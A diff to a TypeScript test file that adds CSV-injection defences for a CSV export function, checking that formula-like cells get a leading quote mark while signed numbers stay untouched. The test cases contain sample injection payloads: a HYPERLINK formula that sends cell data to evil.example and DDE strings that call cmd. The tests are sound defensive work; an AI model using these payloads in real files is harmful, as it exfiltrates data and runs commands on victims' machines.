@@ -1,7 +1,8 @@
 import fc from 'fast-check';
 import { missing } from 'peel-data';
 import { describe, expect, it } from 'vitest';
-import { toCsv } from './csv.ts';
+import { neutraliseFormula, toCsv } from './csv.ts';
+import { getTable } from './server/tables.ts';
 
 const columns = [
   { key: 'force', label: 'Force' },
@@ -63,14 +64,69 @@ describe('toCsv', () => {
     ).toThrow(/row 2, column "Value"/);
   });
 
-  it('reads back exactly what it wrote (property)', () => {
+  it('reads back exactly what it wrote, a formula-like start behind a quote mark (property)', () => {
+    // Written independently of the writer: the OWASP list of starts, and printed numbers (sign, digits, ',', '.', '%').
+    const guarded = (text: string) =>
+      /^[=+\-@\t\r]/.test(text) && !/^[+-]\d[\d,]*(\.\d+)?%?$/.test(text) ? `'${text}` : text;
     fc.assert(
       fc.property(fc.array(fc.tuple(fc.string(), fc.integer()), { maxLength: 20 }), (pairs) => {
         const rows = pairs.map(([force, value]) => ({ force, value }));
         const parsed = parseCsv(toCsv(columns, rows));
         expect(parsed[0]).toEqual(['Force', 'Value', 'notes']);
-        expect(parsed.slice(1)).toEqual(rows.map((row) => [row.force, String(row.value), '']));
+        expect(parsed.slice(1)).toEqual(rows.map((row) => [guarded(row.force), String(row.value), '']));
       }),
     );
+  });
+});
+
+describe('toCsv and CSV injection (OWASP)', () => {
+  it.each([
+    { start: '=', text: '=HYPERLINK("http://evil.example/?"&A1,"Durham")' },
+    { start: '+', text: "+cmd|' /C calc'!A0" },
+    { start: '-', text: "-2+3+cmd|' /C calc'!A0" },
+    { start: '@', text: "@SUM(1+9)*cmd|' /C calc'!A0" },
+    { start: 'a tab', text: '\t=1+1' },
+    { start: 'a carriage return', text: '\r=1+1' },
+  ])('writes a text cell starting with $start behind a quote mark', ({ text }) => {
+    expect(parseCsv(toCsv(columns, [{ force: text, value: 1 }]))[1]).toEqual([`'${text}`, '1', '']);
+  });
+
+  it('guards the notes column and the header too', () => {
+    const csv = toCsv([{ key: 'v', label: '=label' }], [{ v: missing('x', 'not supplied') }]);
+    expect(parseCsv(csv)).toEqual([
+      ["'=label", 'notes'],
+      ['[x]', "'=label: [x] not supplied"],
+    ]);
+  });
+
+  it.each([
+    { label: 'a negative number', cell: -12.5, written: '-12.5' },
+    { label: 'a printed change', cell: '-7%', written: '-7%' },
+    { label: 'a printed rise', cell: '+30%', written: '+30%' },
+    { label: 'a printed count', cell: '-1,234.5', written: '-1,234.5' },
+  ])('leaves $label untouched', ({ cell, written }) => {
+    expect(parseCsv(toCsv(columns, [{ force: 'Durham', value: cell }]))[1]).toEqual(['Durham', written, '']);
+  });
+
+  it.each(['=1+1', '+A1', '-x', '@x'])('neutraliseFormula(%j) starts with a quote mark', (text) => {
+    expect(neutraliseFormula(text)).toBe(`'${text}`);
+  });
+
+  it("writes the site's real change table as printed: rises and falls stay numbers, not guarded text", () => {
+    const table = getTable('metric-crime_change_vs_2011')!;
+    const parsed = parseCsv(toCsv(table.columns, table.rows));
+    const printed = table.rows.map((row) =>
+      table.columns.map((column) => {
+        const cell = row[column.key];
+        return typeof cell === 'string' ? cell : undefined;
+      }),
+    );
+    const signed = printed.flat().filter((text) => text !== undefined && /^[+-]/.test(text));
+    expect(signed.length).toBeGreaterThan(0);
+    parsed.slice(1).forEach((fields, index) => {
+      printed[index]!.forEach((text, column) => {
+        if (text !== undefined) expect(fields[column]).toBe(text);
+      });
+    });
   });
 });
